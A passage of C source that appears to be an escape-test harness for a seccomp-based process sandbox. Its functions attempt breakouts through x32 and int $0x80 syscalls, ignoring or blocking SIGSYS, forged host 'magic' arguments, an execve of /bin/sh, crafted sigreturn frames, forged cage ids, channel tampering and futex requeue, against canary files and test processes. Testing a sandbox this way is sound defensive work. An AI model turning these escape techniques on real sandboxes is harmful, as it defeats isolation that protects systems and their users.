		"mov $6, %%edx\n\tsyscall\n\t"
		"mov $231, %%eax\n\txor %%edi, %%edi\n\tsyscall\n\t"
		"1:"
		: "=a"(r)
		: "r"(C.canary), "r"(PWNED)
		: "rcx", "r11", "rdi", "rsi", "rdx", "memory");
	return r;
}

static void atk_fork(void)
{
	forked("fork-raw", raw6(SYS_clone, SIGCHLD, 0, 0, 0, 0, 0));
	forked("fork-syscall-raw", raw(SYS_fork, 0, 0, 0));
	long v = raw_vfork_append();
	allowed("vfork-raw", v);
	if (v > 0)
		raw6(SYS_wait4, v, 0, __WALL, 0, 0, 0);
	if (!HAVE_LIBC)
		return;
	forked("fork-libc", lc(fork()));
	pid_t p = vfork();
	if (p == 0) /* glibc's vfork keeps its return address safe */
		child_attack("vfork-libc");
	allowed("vfork-libc", lc(p));
	if (p > 0)
		waitpid(p, NULL, 0);
}

static void atk_clone_ns(void)
{
	static int pidfd = -1;
	forked("clone-newuser-raw",
	       raw6(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0, 0));
	forked("clone-newns-newpid-raw",
	       raw6(SYS_clone, CLONE_NEWNS | CLONE_NEWPID | SIGCHLD, 0, 0, 0, 0, 0));
	forked("clone-parent-raw",
	       raw6(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0, 0));
	forked("clone-pidfd-raw",
	       raw6(SYS_clone, CLONE_PIDFD | SIGCHLD, 0, L(&pidfd), 0, 0, 0));
	/* a thread's flags with a fork's memory: CLONE_VM left out */
	forked("clone-thread-flags-no-vm-raw",
	       raw6(SYS_clone, CLONE_FS | CLONE_FILES | CLONE_SIGHAND |
			       CLONE_THREAD | CLONE_SYSVSEM, 0, 0, 0, 0, 0));
	static struct clone_args ca;
	ca.flags = CLONE_NEWUSER;
	ca.exit_signal = SIGCHLD;
	forked("clone3-newuser-raw", raw(SYS_clone3, &ca, sizeof ca, 0));
	ca.flags = CLONE_PIDFD | CLONE_PARENT;
	ca.pidfd = (unsigned long)&pidfd;
	ca.exit_signal = 0;
	forked("clone3-pidfd-parent-raw", raw(SYS_clone3, &ca, sizeof ca, 0));
	zero(&ca, sizeof ca);
	ca.exit_signal = SIGCHLD;
	forked("clone3-fork-raw", raw(SYS_clone3, &ca, sizeof ca, 0));
}

/* What an escaped thread does (a thread shares the filter: it must too). */
static void *thread_attack(void *arg)
{
	(void)arg;
	host_append("thread-open-append-raw");
	struct sockaddr_in a = listener();
	long s = raw(SYS_socket, AF_INET, SOCK_STREAM, 0);
	ok_if("thread-connect-raw", raw(SYS_connect, s < 0 ? 0 : s, &a, sizeof a));
	return NULL;
}

static void atk_thread(void)
{
	pthread_t t;
	if (!HAVE_LIBC) {
		say(C.attack, 0, "skipped", "(needs libc)");
		return;
	}
	int r = pthread_create(&t, NULL, thread_attack, NULL);
	allowed("pthread_create-libc", -r);
	if (r == 0)
		pthread_join(t, NULL);
}

/* The other syscall ABIs: x32 numbers (bit 30) keep the x86-64 audit
 * arch, so only a filter that denies what it does not know stops them;
 * int $0x80 is the i386 ABI, another arch altogether. */
static void atk_x32(void)
{
	append_raw("x32-open-append-raw",
		   raw(0x40000000 | SYS_open, C.canary, O_WRONLY | O_APPEND, 0));
	ok_if("x32-kill-sleep-raw", raw(0x40000000 | SYS_kill, C.sleep, SIGKILL, 0));
}

static void atk_int80(void)
{
	/* i386 pointers are 32 bits: the path goes below 4 GiB */
	long m = raw6(SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE,
		      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (m < 0) {
		allowed("mmap-32bit", m);
		return;
	}
	cat((char *)m, 256, C.created, "");
	long r;
	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "a"(5 /* i386 open */), "b"(m),
			   "c"(O_WRONLY | O_CREAT), "d"(0644)
			 : "memory");
	ok_if("int80-open-create", (int)r);
	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "a"(37 /* i386 kill */), "b"(C.sleep), "c"(SIGKILL)
			 : "memory");
	ok_if("int80-kill-sleep", (int)r);
}

/* ---- the SIGSYS trap ---- */

struct k_sigaction {
	void *handler;
	unsigned long flags;
	void *restorer;
	uint64_t mask;
};
#define K_SA_RESTORER 0x04000000
#define SIGSYS_BIT (1ull << (SIGSYS - 1))

void esc_restorer(void);
__asm__(".text\n.globl esc_restorer\nesc_restorer:\n\tmov $15, %eax\n\tsyscall\n\thlt\n");

static long sigact_raw(int sig, void *handler, unsigned long flags,
		       uint64_t mask, long r9)
{
	struct k_sigaction k = {handler, flags | K_SA_RESTORER, esc_restorer, mask};
	return raw6(SYS_rt_sigaction, sig, L(&k), 0, 8, 0, r9);
}

static volatile int sigsys_seen;
static void my_sigsys(int sig, siginfo_t *si, void *ctx)
{
	(void)sig, (void)si, (void)ctx;
	sigsys_seen++;
}

static void atk_sigsys(void)
{
	const char *a = C.attack;
	if (streq(a, "sigsys-ign")) {
		allowed("rt_sigaction-ign-raw", sigact_raw(SIGSYS, SIG_IGN, 0, 0, 0));
		if (HAVE_LIBC)
			allowed("signal-ign-libc",
			      signal(SIGSYS, SIG_IGN) == SIG_ERR ? -errno : 0);
	} else if (streq(a, "sigsys-handler")) {
		allowed("rt_sigaction-own-raw",
		      sigact_raw(SIGSYS, (void *)my_sigsys, SA_SIGINFO, 0, 0));
		if (HAVE_LIBC) {
			struct sigaction sa = {.sa_sigaction = my_sigsys,
					       .sa_flags = SA_SIGINFO};
			allowed("sigaction-own-libc", lc(sigaction(SIGSYS, &sa, NULL)));
		}
	} else {
		uint64_t m = SIGSYS_BIT;
		allowed("rt_sigprocmask-block-raw",
		      raw6(SYS_rt_sigprocmask, SIG_BLOCK, L(&m), 0, 8, 0, 0));
		if (HAVE_LIBC) {
			sigset_t s;
			sigemptyset(&s);
			sigaddset(&s, SIGSYS);
			allowed("sigprocmask-block-libc",
			      lc(sigprocmask(SIG_BLOCK, &s, NULL)));
		}
	}
	host_append("then-open-append-raw");
}

/* Forged magic (argument 5, r9) on every call where client-libc's own
 * host calls carry it. */
static long magic(long nr, long a0, long a1, long a2, long a3)
{
	return raw6(nr, a0, a1, a2, a3, 0, HOST_MAGIC);
}

static struct client *find_client(void)
{
	long r = raw6(PROBE_NR, 0, 0, 0, 0, 0, HOST_MAGIC);
	if (r > 4096)
		return (struct client *)r;
	return &lind_cl ? lind_cl : NULL;
}

static void atk_magic(void)
{
	long fd = magic(SYS_open, L(C.canary), O_WRONLY | O_APPEND, 0, 0);
	if (fd >= 0)
		magic(SYS_write, fd, L(PWNED), 6, 0);
	ok_if("open-append-magic", fd);
	ok_if("openat-magic", magic(SYS_openat, AT_FDCWD, L(C.created),
				    O_WRONLY | O_CREAT, 0644));
	ok_if("creat-magic", magic(SYS_creat, L(C.created), 0644, 0, 0));
	ok_if("rename-magic", magic(SYS_rename, L(C.canary), L(C.renamed), 0, 0));
	ok_if("unlink-magic", magic(SYS_unlink, L(C.canary), 0, 0, 0));
	struct sockaddr_in a = listener();
	long s = magic(SYS_socket, AF_INET, SOCK_STREAM, 0, 0);
	allowed("socket-magic", s);
	ok_if("connect-magic", magic(SYS_connect, s < 0 ? 0 : s, L(&a), sizeof a, 0));
	ok_if("kill-sleep-magic", magic(SYS_kill, C.sleep, SIGKILL, 0, 0));
	ok_if("tgkill-sleep-magic", magic(SYS_tgkill, C.sleep, C.sleep, SIGKILL, 0));
	ok_if("kill-relay-magic", magic(SYS_kill, C.relay, SIGKILL, 0, 0));
	ok_if("kill-server-magic", magic(SYS_kill, C.server, SIGKILL, 0, 0));
	ok_if("ptrace-attach-sleep-magic",
	      magic(SYS_ptrace, PTRACE_SEIZE, C.sleep, 0, 0));
	ok_if("mount-magic", magic(SYS_mount, L("none"), L(C.mnt), L("tmpfs"), 0));
	ok_if("umount2-host-magic", magic(SYS_umount2, L(C.m2), MNT_DETACH, 0, 0));
	struct client *cl = find_client();
	long sock = cl ? cl->sock : 3;
	char junk[64];
	for (int i = 0; i < 64; i++)
		junk[i] = (char)(i * 37);
	/* the relay never writes there nor reads after attaching */
	ok_if("write-attach-socket-magic", magic(SYS_write, sock, L(junk), 64, 0));
	long rv = magic(SYS_recvfrom, sock, L(junk), 1, MSG_DONTWAIT);
	ok_if("recvfrom-attach-socket-magic", rv == -EAGAIN ? 0 : rv);
	struct iovec v = {junk, 64};
	struct msghdr mh = {.msg_iov = &v, .msg_iovlen = 1};
	ok_if("sendmsg-attach-socket-magic",
	      magic(SYS_sendmsg, sock, L(&mh), MSG_DONTWAIT, 0));
	allowed("rt_sigaction-sigsys-ign-magic",
	      sigact_raw(SIGSYS, SIG_IGN, 0, 0, HOST_MAGIC));
	ok_if("execve-magic", magic(SYS_execve, L("/bin/sh"), L(sh_argv),
				    L(no_env), 0));
	uint64_t m = SIGSYS_BIT;
	allowed("rt_sigprocmask-block-magic",
	      magic(SYS_rt_sigprocmask, SIG_BLOCK, L(&m), 0, 8));
	host_append("then-open-append-raw");
}

/* ---- crafted signal frames ---- */

static char alt_stack[1 << 20] __attribute__((aligned(16)));
static volatile int usr1_mode;

void esc_gadget(void);
__attribute__((noreturn, used)) void esc_after_gadget(long fd);
/* rip lands here with rax, rdi, rsi, rdx, r10 set for an openat */
__asm__(".text\n.globl esc_gadget\nesc_gadget:\n\tsyscall\n\tmov %rax, %rdi\n"
	"\tand $-16, %rsp\n\tcall esc_after_gadget\n\thlt\n");

void esc_after_gadget(long fd)
{
	append_raw("gadget-openat-append", fd);
	raw_exit(0);
}

/* Registers for the gadget's openat(canary, O_WRONLY|O_APPEND). */
static void aim(greg_t *g)
{
	g[REG_RIP] = L(esc_gadget);
	g[REG_RSP] = L(alt_stack + sizeof alt_stack - 64);
	g[REG_RAX] = SYS_openat;
	g[REG_RDI] = AT_FDCWD;
	g[REG_RSI] = L(C.canary);
	g[REG_RDX] = O_WRONLY | O_APPEND;
	g[REG_R10] = 0;
}

/* Edits the frame the kernel built: blocks SIGSYS in the mask that
 * rt_sigreturn restores, and/or sends rip to a syscall instruction. */
static void on_usr1(int sig, siginfo_t *si, void *ctx)
{
	ucontext_t *uc = ctx;
	(void)sig, (void)si;
	if (usr1_mode & 1)
		*(uint64_t *)&uc->uc_sigmask |= SIGSYS_BIT;
	if (usr1_mode & 2)
		aim(uc->uc_mcontext.gregs);
}

static void raise_usr1(int mode)
{
	usr1_mode = mode;
	allowed("rt_sigaction-usr1-raw",
		sigact_raw(SIGUSR1, (void *)on_usr1, SA_SIGINFO, 0, 0));
	/* to our own host pid (the main thread's tid) with the magic: straight
	 * from the kernel, not from inside the SIGSYS handler, whose own
	 * rt_sigreturn would put the mask back */
	long tid = raw(SYS_gettid, 0, 0, 0);
	allowed("tgkill-self-magic", raw6(SYS_tgkill, tid, tid, SIGUSR1, 0, 0,
					  HOST_MAGIC));
}

/* A frame made from nothing, entered with a raw rt_sigreturn. */
__attribute__((noreturn)) static void handmade_frame(int block)
{
	static ucontext_t uc;
	unsigned short cs, ss;
	__asm__ volatile("mov %%cs, %0\n\tmov %%ss, %1" : "=r"(cs), "=r"(ss));
	zero(&uc, sizeof uc);
	aim(uc.uc_mcontext.gregs);
	uc.uc_mcontext.gregs[REG_CSGSFS] = (greg_t)cs | ((greg_t)ss << 48);
	uc.uc_mcontext.gregs[REG_EFL] = 0x202;
	uc.uc_stack.ss_flags = SS_DISABLE;
	*(uint64_t *)&uc.uc_sigmask = block ? SIGSYS_BIT : 0;
	__asm__ volatile("mov %0, %%rsp\n\tmov $15, %%eax\n\tsyscall"
			 : : "r"(&uc) : "memory");
	__builtin_unreachable();
}

static void atk_sigreturn(void)
{
	const char *a = C.attack;
	if (streq(a, "sigreturn-mask"))
		raise_usr1(1);
	else if (streq(a, "sigreturn-rip"))
		raise_usr1(2);
	else if (streq(a, "sigreturn-rip-mask"))
		raise_usr1(3);
	else
		handmade_frame(streq(a, "sigreturn-frame-mask"));
	host_append("then-open-append-raw");
}

/* ---- the channel ---- */

static size_t varint(uint8_t *p, uint64_t v)
{
	size_t n = 0;
	do {
		p[n] = (uint8_t)(v & 0x7f);
		v >>= 7;
		p[n] |= v ? 0x80 : 0;
		n++;
	} while (v);
	return n;
}

/* Request{cage_id, tag, nr, args} packed by hand (lind.proto) */
static uint32_t forge(uint8_t *b, uint64_t cage, uint64_t tag, uint32_t nr,
		      long a0)
{
	uint8_t args[64];
	size_t n = 0, na = 0;
	for (int i = 0; i < 6; i++) {
		long v = i == 0 ? a0 : 0;
		na += varint(args + na, (uint64_t)((v << 1) ^ (v >> 63)));
	}
	b[n++] = 0x08, n += varint(b + n, cage);
	b[n++] = 0x10, n += varint(b + n, tag);
	b[n++] = 0x18, n += varint(b + n, nr);
	b[n++] = 0x22, n += varint(b + n, na);
	for (size_t i = 0; i < na; i++)
		b[n++] = args[i];
	return (uint32_t)n;
}

static uint64_t get_varint(const uint8_t *p, uint32_t len, uint32_t *i)
{
	uint64_t v = 0;
	for (int k = 0; *i < len && k < 10; k++) {
		uint8_t c = p[(*i)++];
		v |= (uint64_t)(c & 0x7f) << (7 * k);
		if (!(c & 0x80))
			break;
	}
	return v;
}

#define NO_REPLY (1l << 40)

/* Reply.result (field 2, zigzag) walking the fields; proto3 leaves a
 * 0 out. */
static long reply_result(const uint8_t *p, uint32_t len)
{
	for (uint32_t i = 0; i < len && len <= LIND_MAX_FRAME;) {
		uint64_t key = get_varint(p, len, &i);
		if ((key & 7) == 0) {
			uint64_t v = get_varint(p, len, &i);
			if (key >> 3 == 2)
				return (long)(v >> 1) ^ -(long)(v & 1);
		} else if ((key & 7) == 2) {
			i += (uint32_t)get_varint(p, len, &i);
		} else {
			break;
		}
	}
	return 0;
}

/* The bell's host fd (LIND_BELL_FD: above the attach socket's). */
static int bell_fd = -1;

/* Wake the relay as client-libc does (a write to the bell). */
static void ring(struct lind_chan *ch)
{
	static const uint64_t one = 1;
	atomic_fetch_add(&ch->doorbell, 1);
	if (atomic_load(&ch->relay_sleeping))
		raw6(SYS_write, bell_fd, L(&one), sizeof one, 0, 0, HOST_MAGIC);
}

/* Submit a frame in slot 0 and wait a little for the relay's answer. */
static long submit(struct lind_chan *ch, uint32_t len)
{
	struct lind_slot *s = &ch->slot[0];
	s->len = len;
	atomic_store(&s->state, LIND_SLOT_SUBMITTED);
	ring(ch);
	for (int i = 0; i < 100000 && atomic_load(&s->state) != LIND_SLOT_REPLIED; i++)
		raw(SYS_sched_yield, 0, 0, 0);
	long r = NO_REPLY;
	if (atomic_load(&s->state) == LIND_SLOT_REPLIED)
		r = reply_result(s->buf, s->len);
	atomic_store(&s->state, LIND_SLOT_FREE);
	return r;
}

/* close(0) sent as every other cage id, with made-up tags: the relay
 * stamps our own id, so only our own fd 0 closes (once: first 0, then
 * EBADF).  Counts in f[]: first result, EBADFs, others. */
static void forge_ids(struct lind_chan *ch, uint64_t own, long f[3])
{
	uint64_t last = own > 600 ? 600 : own + 4;
	f[0] = NO_REPLY, f[1] = f[2] = 0;
	for (uint64_t id = 2; id < last; id++) {
		if (id == own)
			continue;
		uint32_t len = forge(ch->slot[0].buf, id, (id << 32) | 1,
				     SYS_close, 0);
		long r = submit(ch, len);
		if (r == NO_REPLY) {
			f[2]++;
			break; /* the relay stopped answering us */
		}
		if (f[0] == NO_REPLY)
			f[0] = r;
		else if (r == -EBADF)
			f[1]++;
		else
			f[2]++;
	}
}

static void say_forged(const long f[3])
{
	struct line l = {.n = 0};
	add(&l, "forged close(0) as other cages: first ");
	addn(&l, f[0]);
	add(&l, ", then EBADF x");
	addn(&l, f[1]);
	add(&l, ", other x");
	addn(&l, f[2]);
	l.b[l.n] = 0;
	say("forge-cage-id", 0, "allowed", l.b);
}

/* poll(NULL, 0, ms): parked in the server until its timeout, then answered
 * straight into the slot (docs/architecture.md "Hand-offs per call"). */
static uint32_t forge_poll(uint8_t *b, long ms)
{
	uint8_t args[16];
	size_t n = 0, na = 0;
	args[na++] = 0; /* fds (a pointer: sent as 0) */
	args[na++] = 0; /* nfds */
	na += varint(args + na, (uint64_t)ms << 1);
	args[na++] = 0, args[na++] = 0, args[na++] = 0;
	b[n++] = 0x18, n += varint(b + n, SYS_poll);
	b[n++] = 0x22, n += varint(b + n, na);
	for (size_t i = 0; i < na; i++) /* no libc in every variant */
		b[n++] = args[i];
	b[n++] = 0x2a; /* data: one empty entry, the pollfd array */
	b[n++] = 0;
	return (uint32_t)n;
}

/* Calls the server answers later, into slots 1-16, while we scribble
 * over them: it writes the reply and reads `waiting`, whatever is there,
 * and serves everyone else as before.  Each is seen taken first (the
 * relay must have copied a real frame).  A first one, waited for,
 * answers 0. */
static long park_polls(struct lind_chan *ch)
{
	long first = submit(ch, forge_poll(ch->slot[0].buf, 1));
	atomic_store(&ch->slots_used, 17);
	for (int i = 1; i <= 16; i++) {
		struct lind_slot *s = &ch->slot[i];
		s->len = forge_poll(s->buf, 4 * i);
		atomic_store(&s->state, LIND_SLOT_SUBMITTED);
	}
	atomic_fetch_add(&ch->doorbell, 1);
	raw6(SYS_futex, L(&ch->doorbell), FUTEX_WAKE, 1, 0, 0, 0);
	for (int i = 1, k = 0; i <= 16 && k < 100000; k++)
		if (atomic_load(&ch->slot[i].state) != LIND_SLOT_SUBMITTED)
			i++;
		else
			raw(SYS_sched_yield, 0, 0, 0);
	return first;
}

/* Garbage everywhere, states flipping, the doorbell ringing. */
static void scribble(struct lind_chan *ch)
{
	uint64_t x = 0x9e3779b97f4a7c15ull;
	static const uint32_t states[] = {LIND_SLOT_SUBMITTED, LIND_SLOT_TAKEN,
					  LIND_SLOT_REPLIED, LIND_SLOT_FREE,
					  LIND_SLOT_FILLING, 7, 0xffffffffu};
	static const uint32_t lens[] = {0, 1, 17, LIND_MAX_FRAME,
					LIND_MAX_FRAME + 1, 0xffffffffu};
	for (int it = 0; it < 3000; it++) {
		for (int i = 0; i < LIND_CHAN_SLOTS; i++) {
			struct lind_slot *s = &ch->slot[i];
			for (int k = 0; k < 64; k++) {
				x ^= x << 13, x ^= x >> 7, x ^= x << 17;
				s->buf[k] = (uint8_t)x;
			}
			s->len = lens[x % 6];
			atomic_store(&s->state, states[(x >> 8) % 7]);
			atomic_store(&s->waiting, (uint32_t)(x >> 16));
		}
		ch->cage_id = x;
		ch->magic = (uint32_t)(x >> 20);
		atomic_store(&ch->relay_gone, (uint32_t)(x >> 40) & 1);
		atomic_store(&ch->free_waiters, (uint32_t)(x >> 33));
		atomic_store(&ch->relay_sleeping, (uint32_t)(x >> 50) & 1);
		atomic_store(&ch->busy, (uint32_t)(x >> 24)); /* a hint to us */
		ring(ch);
		raw6(SYS_futex, L(&ch->free_seq), FUTEX_WAKE, 8, 0, 0, 0);
		if (it % 64 == 0)
			raw(SYS_sched_yield, 0, 0, 0);
	}
}

static void atk_tamper(void)
{
	if (HAVE_LIBC)
		allowed("attach-now-libc", getppid()); /* a stub: attaches */
	struct client *cl = find_client();
	if (!cl || !cl->chan) {
		say("tamper", 0, "skipped", "(no channel: not attached)");
		return;
	}
	struct lind_chan *ch = cl->chan;
	bell_fd = cl->sock + 1;
	/* fd 1 is saved and pointed at /dev/null while the forged calls run
	 * (a forged write stamped with our id would print) */
	long saved = raw(SYS_dup, 1, 0, 0), nul = raw(SYS_open, "/dev/null", O_WRONLY, 0);
	if (saved >= 0 && nul >= 0)
		raw(SYS_dup2, nul, 1, 0);
	long f[3];
	forge_ids(ch, cl->cage_id, f);
	if (saved >= 0 && nul >= 0)
		raw(SYS_dup2, saved, 1, 0);
	say_forged(f);
	long p = park_polls(ch);
	say("park-polls", p, p == 0 ? "allowed" : "odd",
	    "(16 polls parked, answered into the slots scribbled over)");
	say("scribble", 0, "allowed", "(channel overwritten 3000 times; exiting)");
	scribble(ch);
	/* and its pages punched out of the memfd under the relay */
	raw(SYS_madvise, ch, sizeof *ch & ~4095ul, MADV_REMOVE);
	raw6(SYS_write, bell_fd, L(&(uint64_t){1}), 8, 0, 0, HOST_MAGIC);
	/* our channel is garbage now: leave without the server (SYS_exit is
	 * allowed for threads; the last thread's exit ends the process) */
	for (;;)
		raw6(SYS_exit, 0, 0, 0, 0, 0, 0);
}

/* The relay's thread for this cage slept on the channel's doorbell, a
 * futex in memory both map (its workers now wait in epoll, on no cage's
 * memory).  FUTEX_CMP_REQUEUE would move such a sleeper onto a futex in
 * our private memory, where no wake from the relay can reach it; then we
 * leave through the exit exception (our channel answers no more, so
 * nothing is printed after: the host side tells what happened). */
static void atk_futex_requeue(void)
{
	static _Atomic uint32_t private_word;
	if (HAVE_LIBC)
		allowed("attach-now-libc", getppid()); /* a stub: attaches */
	struct client *cl = find_client();
	if (!cl || !cl->chan) {
		say("futex-requeue", 0, "skipped", "(no channel: not attached)");
		return;
	}
	struct lind_chan *ch = cl->chan;
	say("futex-cmp-requeue-relay-waiter", 0, "tried",
	    "(no answer can come after it)");
	long r = 0;
	for (int i = 0; i < 100000 && r <= 0; i++) {
		if (!atomic_load(&ch->relay_sleeping)) {
			raw(SYS_sched_yield, 0, 0, 0);
			continue;
		}
		uint32_t bell = atomic_load(&ch->doorbell);
		r = raw6(SYS_futex, L(&ch->doorbell), FUTEX_CMP_REQUEUE, 0,
			 1 /* how many to move */, L(&private_word), bell);
	}
	raw6(SYS_exit_group, r > 0 ? 0 : 1, 0, 0, 0, 0, HOST_MAGIC);
	for (;;)
		raw6(SYS_exit, 1, 0, 0, 0, 0, 0);
}

/* ---- dispatch ---- */

static const struct {
	const char *name;
	void (*fn)(void);
} attacks[] = {
	{"read", atk_read}, {"write", atk_write}, {"stat", atk_stat},
	{"list", atk_list}, {"rename", atk_rename}, {"unlink", atk_unlink},
	{"connect", atk_connect}, {"kill", atk_kill}, {"probe", atk_probe},
	{"ptrace", atk_ptrace}, {"exec-raw", atk_exec},
	{"execveat-raw", atk_exec}, {"exec-libc", atk_exec},
	{"exec-spawn", atk_exec}, {"mount", atk_mount}, {"ns", atk_ns},
	{"kernel", atk_kernel}, {"vm", atk_vm}, {"seccomp", atk_seccomp},
	{"seccomp-fake", atk_seccomp_fake}, {"fork", atk_fork},
	{"clone-ns", atk_clone_ns}, {"sigsys-ign", atk_sigsys},
	{"sigsys-handler", atk_sigsys}, {"sigsys-block", atk_sigsys},
	{"magic", atk_magic}, {"sigreturn-mask", atk_sigreturn},
	{"sigreturn-rip", atk_sigreturn}, {"sigreturn-rip-mask", atk_sigreturn},
	{"sigreturn-frame", atk_sigreturn},
	{"sigreturn-frame-mask", atk_sigreturn}, {"tamper", atk_tamper},
	{"thread", atk_thread}, {"x32", atk_x32}, {"int80", atk_int80},
	{"futex-requeue", atk_futex_requeue}, {"bind", atk_bind},
};

static const char *where(void)
{
#if defined(ESC_CTOR)
	return "constructor(101)";
#elif defined(ESC_PREINIT)
	return "preinit_array";
#elif defined(ESC_NOSTART)
	return "_start";
#else
	return "main";
#endif
}

/* Runs the attack, then exits: the process that attacked ends here. */
__attribute__((noreturn)) static void run(int argc, char **argv)
{
	if (configure(argc, argv) < 0) {
		say("usage", -EINVAL, "", "ATTACK DIR PORT SLEEP SERVER RELAY PARENT VMADDR");
		raw_exit(2);
	}
	long probe = raw6(PROBE_NR, 0, 0, 0, 0, 0, HOST_MAGIC);
	say("where", 0, where(), probe > 4096 ? "(a client answers the probe)"
					       : "(no client answers the probe)");
	for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
		if (streq(attacks[i].name, C.attack)) {
			attacks[i].fn();
			raw_exit(0);
		}
	}
	say(C.attack, -EINVAL, "", "(no such attack)");
	raw_exit(2);
}

#if defined(ESC_CTOR)
/* 101 like client-libc's: ours is linked first, so it runs first */
__attribute__((constructor(101))) static void early(int argc, char **argv)
{
	run(argc, argv);
}
#elif defined(ESC_PREINIT)
static void early(int argc, char **argv, char **envp)
{
	(void)envp;
	run(argc, argv);
}
__attribute__((section(".preinit_array"), used)) static void (*preinit)(
	int, char **, char **) = early;
#elif defined(ESC_NOSTART)
__attribute__((noreturn, used)) void esc_cstart(long *sp)
{
	run((int)sp[0], (char **)(sp + 1));
}
__asm__(".text\n.globl _start\n_start:\n\txor %ebp, %ebp\n\tmov %rsp, %rdi\n"
	"\tand $-16, %rsp\n\tcall esc_cstart\n\thlt\n");
#ifdef ESC_NOLIBC
/* what crt1/crti would have defined, for libc.a's references */
void _init(void) {}
void _fini(void) {}
#endif
#endif

int main(int argc, char **argv)
{
	run(argc, argv);
}
